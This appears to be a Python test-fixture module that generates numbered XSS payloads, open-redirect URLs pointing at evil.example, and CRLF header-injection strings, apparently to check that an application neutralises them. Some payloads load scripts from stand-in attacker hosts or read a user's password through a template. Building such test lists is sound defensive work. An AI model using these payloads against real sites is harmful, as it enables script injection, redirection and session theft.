"""What has been tried on others: markup and scripts, addresses that lead elsewhere, lines that become headers, formulas.

`{n}` is the number of the payload, by which it is known again wherever it comes up.
"""

from itertools import product

# A way out of where a text may stand, and what is put there.
WAYS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "</select></option>",
    "]]>",
    "</svg>",
    "&gt;&quot;",
)
WITH_A_WAY_OUT = (
    "<script>alert(xss{n})</script>",
    "<img src=x onerror=alert(xss{n})>",
    "<svg onload=alert(xss{n})>",
    "<svg/onload=alert(xss{n})//",
    "<iframe srcdoc='<script>alert(xss{n})</script>'>",
    "<a href=javascript:alert(xss{n})>xss{n}</a>",
    "<form action=//xss{n}.example><input type=submit>",
    "<base href=//xss{n}.example/>",
    "<meta http-equiv=refresh content='0;url=//xss{n}.example'>",
    "<style>@import'//xss{n}.example'</style>",
    "<x onclick=alert(xss{n}) tabindex=1 id=xss{n}>",
)
BY_THEMSELVES = (
    '" onfocus=alert(xss{n}) autofocus x="',
    "' onfocus=alert(xss{n}) autofocus x='",
    "` onmouseover=alert(xss{n}) `",
    '" style="background:url(//xss{n}.example)',
    '" formaction="javascript:alert(xss{n})',
    "javascript:alert(xss{n})",
    "JaVaScRiPt:alert(xss{n})",
    "java\tscript:alert(xss{n})",
    "java\nscript:alert(xss{n})",
    " javascript:alert(xss{n})",
    "\x01javascript:alert(xss{n})",
    "javascript://xss{n}.example/%0Aalert(1)",
    "data:text/html,<script>alert(xss{n})</script>",
    "data:text/html;base64,PHNjcmlwdD4= xss{n}",
    "vbscript:msgbox(xss{n})",
    "//xss{n}.example/x.js",
    "https://xss{n}.example/",
    "<ScRiPt >alert(xss{n})</sCrIpT >",
    "<script\n>alert(xss{n})</script\n>",
    "<scr<script>ipt>alert(xss{n})</scr</script>ipt>",
    "<<script>alert(xss{n})//<</script>",
    "<script src=//xss{n}.example></script>",
    "<img/src/onerror=alert(xss{n})>",
    "<img src=`x`onerror=alert(xss{n})>",
    "<img\nsrc=x\nonerror=alert(xss{n})>",
    '<img src="x` `<script>alert(xss{n})</script>"` `>',
    "<body onload=alert(xss{n})>",
    "<input autofocus onfocus=alert(xss{n})>",
    "<details open ontoggle=alert(xss{n})>",
    "<video><source onerror=alert(xss{n})>",
    "<audio src=x onerror=alert(xss{n})>",
    "<marquee onstart=alert(xss{n})>",
    "<object data=javascript:alert(xss{n})>",
    "<embed src=javascript:alert(xss{n})>",
    "<math><mi xlink:href=javascript:alert(xss{n})>xss{n}",
    "<svg><animate attributeName=href values=javascript:alert(xss{n})>",
    "<svg><script>alert(xss{n})</script></svg>",
    "<svg><use href=data:image/svg+xml,xss{n}>",
    "<noscript><p title='</noscript><img src=x onerror=alert(xss{n})>'>",
    "<template><script>alert(xss{n})</script></template>",
    "<link rel=stylesheet href=//xss{n}.example>",
    "<keygen autofocus onfocus=alert(xss{n})>",
    "<button hx-get=//xss{n}.example hx-trigger=load>xss{n}</button>",
    '<div data-hx-on:load="alert(xss{n})">',
    "<!--><script>alert(xss{n})</script>-->",
    "<![CDATA[<script>alert(xss{n})</script>]]>",
    "<?xml version='1.0'?><script>alert(xss{n})</script>",
    "&lt;script&gt;alert(xss{n})&lt;/script&gt;",
    "&#60;script&#62;alert(xss{n})&#60;/script&#62;",
    "%3Cscript%3Ealert(xss{n})%3C/script%3E",
    "\\u003cscript\\u003ealert(xss{n})\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(xss{n})\\x3c/script\\x3e",
    "＜script＞alert(xss{n})＜/script＞",
    "+ADw-script+AD4-alert(xss{n})+ADw-/script+AD4-",
    "<scrıpt>alert(xss{n})</scrıpt>",
    "<ſcript>alert(xss{n})</ſcript>",
    "{{ constructor.constructor('alert(xss{n})')() }}",
    "{% csrf_token %}{{ request.user.password }} xss{n}",
    "${{alert(xss{n})}}",
    "<%= xss{n} %>",
    "[xss{n}](javascript:alert(1))",
    "![xss{n}](https://xss{n}.example/x.png)",
    "**xss{n}** <b>xss{n}</b>",
    "<b/onwheel=alert(xss{n})>xss{n}",
    "<a href='&#106;avascript:alert(xss{n})'>xss{n}</a>",
    "<a href='java&Tab;script:alert(xss{n})'>xss{n}</a>",
    "<isindex action=javascript:alert(xss{n}) type=image>",
    "<table background=javascript:alert(xss{n})>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(xss{n})</x:script>",
    "\u202e<script>alert(xss{n})</script>",
    "<\u200bscript>alert(xss{n})</script>",
    "</option></select><img src=x onerror=alert(xss{n})>",
    '"><svg><desc><script>alert(xss{n})</script>',
    "*/alert(xss{n})/*",
    "';alert(xss{n});//",
    '";alert(xss{n});//',
    "\\';alert(xss{n});//",
    "</p><p><script>alert(xss{n})</script>",
    "x'onerror='alert(xss{n})",
)  # fmt: skip

MARKUP: tuple[str, ...] = tuple(
    text.replace("{n}", f"{number:03}")
    for number, text in enumerate(
        [*(way + what for way, what in product(WAYS_OUT, WITH_A_WAY_OUT)), *BY_THEMSELVES], start=1
    )
)

_HOSTS = (
    "evil.example",
    "evil.example:443",
    "localhost.evil.example",
    "testserver.evil.example",
    "127.0.0.2",
    "[::ffff:1.2.3.4]",
    "evil%E3%80%82example",
)
_BEFORE = (
    *("//", "///", "////", "/\\", "\\/", "\\\\", "/\t/", "/\n/", "/\r/", "\t//", " //", "\n//", "\x00//", "/%09/", "/%5c", "//%2f", "/.//", "/..//"),
    *("http://", "https://", "HTTPS://", "https:", "https:/", "https:///", "http:\\\\", "ftp://", "javascript:alert(1)//", "data:text/html,", "ws://"),
)  # fmt: skip
_WITHIN = (
    *("https://testserver@evil.example/", "https://testserver:x@evil.example/", "//testserver@evil.example", "https://evil.example#@testserver/"),
    *("https://evil.example?testserver", "https://evil.example\\@testserver/", "/\u2215evil.example", "//\u2044evil.example", "／／evil.example", "//evil。example"),
    *("/cases/\r\nLocation: https://evil.example/", "/cases/%0d%0aLocation:%20https://evil.example/", "/cases/\nSet-Cookie: a=b", "/\u560d\u560aX: y"),
    *("https:evil.example", "https:\\evil.example", "http:///evil.example", "////evil.example//", "//evil.example/%2e%2e", "?next=//evil.example"),
    *("//evil.example/..;/css", "javascript:alert(1)", "JAVASCRIPT:alert(1)", "\x01javascript:alert(1)", "vbscript:x", "data:text/html,<script>", "blob:x", "mailto:a@b"),
    *("//[::1", "http://[", "https://]", "//", "///", "\\\\", "http:", "https://", ":", "//:@/", "http://a:b:c@evil.example", "//evil.example\x00/"),
)  # fmt: skip
ELSEWHERE: tuple[str, ...] = tuple(
    dict.fromkeys([*(before + host for host, before in product(_HOSTS, _BEFORE)), *_WITHIN])
)

_BREAKS = (
    "\r\n",
    "\n",
    "\r",
    "\u2028",
    "\x85",
    "\x0b",
    "\x00",
    "%0d%0a",
    "\\r\\n",
    "\u560d\u560a",
    "\r\n\r\n",
    "\r\n ",
    "\u010a",
)
_LINES = (
    "Set-Cookie: session=evil",
    "Bcc: evil@evil.example",
    "Location: //evil.example",
    "Content-Type: text/html",
    "X-Evil: 1",
    "To: evil@evil.example",
    "<script>alert(1)</script>",
    "=?utf-8?b?ZXZpbA==?=",
)
LINES: tuple[str, ...] = tuple(f"evil{broken}{line}" for broken, line in product(_BREAKS, _LINES))
